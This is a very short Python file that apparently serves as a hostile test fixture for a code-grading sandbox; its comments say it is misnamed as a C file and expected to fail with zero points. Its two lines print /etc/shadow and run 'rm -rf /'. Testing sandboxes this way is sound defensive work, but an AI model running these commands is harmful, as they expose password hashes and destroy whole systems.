#!/usr/bin/env python3
# not_c.c - sandbox-hostile "lab": a Python program named faults.c.
# Expected: a compile error, 0 points.
import os
print(open("/etc/shadow").read())
os.system("rm -rf /")
